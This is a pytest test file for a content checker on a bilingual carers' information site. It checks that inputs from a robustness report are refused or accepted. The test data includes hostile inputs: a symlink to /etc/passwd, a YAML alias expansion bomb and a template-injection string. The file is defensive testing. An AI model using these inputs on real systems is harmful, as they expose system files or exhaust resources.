def test_every_reproduction_in_the_robustness_report_is_refused_with_file_line_and_message(project, capsys, report_id, file, old, new, expected):
    target = project.root / file
    if old is None:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(new) if isinstance(new, bytes) else target.write_text(new, encoding="utf-8")
    else:
        edit(project, file, old, new)
    code, lines = run_check(project, capsys)
    assert code == 1, "\n".join(lines)
    assert any(line.startswith(expected) for line in lines), "\n".join(lines)
    assert not any("Traceback" in line or "could not read this file" in line for line in lines), "\n".join(lines)


def test_a_symlink_in_docs_is_refused(project, capsys):
    """Report S02: a symlink published /etc/passwd and the build's environment."""
    (project.root / "docs" / "en" / "notes.txt").symlink_to("/etc/passwd")
    code, lines = run_check(project, capsys)
    assert code == 1
    assert any(line.startswith("docs/en/notes.txt:1: This is a symbolic link.") for line in lines), "\n".join(lines)


def test_an_alias_bomb_is_refused_quickly(project, capsys):
    import time

    bomb = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 9))
    edit(project, EN, "title: Leaving hospital\n", "title: Leaving hospital\n" + bomb + "next_review: *a8\n")
    started = time.perf_counter()
    code, lines = run_check(project, capsys)
    assert time.perf_counter() - started < 10
    assert code == 1 and any(line.startswith(f"{EN}:3: YAML anchors and aliases") for line in lines), "\n".join(lines)


def test_a_check_that_fails_unexpectedly_is_one_message_and_the_others_still_run(project, monkeypatch):
    from scripts.checks import run

    def broken(project):
        raise RuntimeError("unforeseen")

    monkeypatch.setattr(run.videos, "check", broken)
    edit(project, EN, "https://www.nhs.uk/", "http://www.nhs.uk/")
    found = [str(p) for p in run.run_all(project)]
    assert any("The videos check could not read this file (RuntimeError: unforeseen)" in p for p in found)
    assert any(p.startswith(f"{EN}:22: The link http://www.nhs.uk/ uses http://.") for p in found)


@pytest.mark.parametrize(("report_id", "old", "new"), [
    ("F13", "---\ntitle: Leaving hospital", "\ufeff---\ntitle: Leaving hospital"),
    ("F22", "sources: [seed-one]\n---\n", "sources: [seed-one]\n\n"),
    ("F12", "audience: [carers]", "audience:\n\t- carers"),
], ids=lambda value: value if isinstance(value, str) and len(value) == 3 else None)
def test_a_broken_english_front_matter_is_one_message_not_one_per_translation(project, report_id, old, new):
    """The report's cascades: the translations were compared with front matter read as text (spurious 'differ' errors)."""
    edit(project, EN, old, new)
    found = [p for p in problems(project) if ": warning: " not in p]
    assert [p for p in found if p.startswith(EN)], found
    assert not [p for p in found if p.startswith(CY)], found


# Inputs the report found harmless; the check accepts them as the build does (in both languages, so no
# translation difference is reported either).
REPORT_ACCEPTED = [
    ("F14", None, None),  # CRLF line endings
    ("F29", "title: Leaving hospital", "title: Leaving\thospital"),  # a tab inside a value: MkDocs reads it
    ("B01", "Ask the council.", "Ask the council.\n\n" + "A short paragraph about caring.\n\n" * 5000),
    ("B02", "In an emergency call 999.", "In an emergency call 999. " + "x" * 10000),
    ("B08", "In an emergency call 999.", "In an emergency call 999. {{ config.site_name }} {% include 'main.html' %}"),
    ("V06", "In an emergency call 999.", "In an emergency call 999.\n\n/// video | A film\n    id: NPENe0gKEOU\n    duration: 2:48\nSummary.\n///"),
]


@pytest.mark.parametrize(("report_id", "old", "new"), REPORT_ACCEPTED, ids=[case[0] for case in REPORT_ACCEPTED])
def test_harmless_inputs_in_the_report_are_accepted(project, report_id, old, new):
    for name in (EN, CY) if report_id != "B01" else ("docs/en/support/carers-assessment.md", "docs/cy/support/carers-assessment.md"):
        path = project.root / name
        text = path.read_text(encoding="utf-8")
        if old is None:
            path.write_bytes(text.replace("\n", "\r\n").encode("utf-8"))
            continue
        if old not in text:  # the Welsh page's words differ; its numbers and structure must match
            old_cy = {"Ask the council.": "Gofynnwch i'r cyngor.", "In an emergency call 999.": "Mewn argyfwng ffoniwch 999.",
                      "title: Leaving hospital": "title: Gadael yr ysbyty"}[old]
            text = text.replace(old_cy, new.replace(old, old_cy), 1)
        else:
            text = text.replace(old, new, 1)
        path.write_text(text, encoding="utf-8")
    found = [p for p in problems(project) if ": warning: " not in p]
    assert found == [], found


@pytest.mark.parametrize("report_id", ["H05", "H06", "H07", "H09", "H13", "H14", "H17"])
def test_an_address_inside_a_refused_tag_gets_no_advice_to_link_it(project, capsys, report_id):
    """The report's 'CM' rows: 'Bare web address …"' advised turning the attacker's address into a link."""
    _, file, old, new, _ = next(case for case in REPORT_RAW_HTML if case[0] == report_id)
    edit(project, file, old, new)
    code, lines = run_check(project, capsys)
    assert code == 1 and not [line for line in lines if "Bare web address" in line], lines


def test_s04_a_page_missing_from_the_menu_is_named_by_file(project, capsys):
    (project.root / "mkdocs.yml").write_text(
        "site_name: !ENV [SITE_NAME, Test]\nnot_in_nav: |\n  /*/good-practice/*.md\nnav:\n"
        "  - Leaving: transitions/leaving-hospital.md\n  - Support:\n      - support/carers-assessment.md\n", encoding="utf-8")
    for path in ("support/hidden-page.md", "good-practice/an-example.md"):
        target = project.docs / "en" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(ASSESSMENT.replace("# A carer's assessment", "# Another page"), encoding="utf-8")
    code, lines = run_check(project, capsys)
    assert code == 1
    assert "docs/en/support/hidden-page.md:1: This page is not in the menu. Add '- support/hidden-page.md' to nav in mkdocs.yml" \
        in "\n".join(lines)
    assert not [line for line in lines if "not in the menu" in line and "hidden-page" not in line], lines
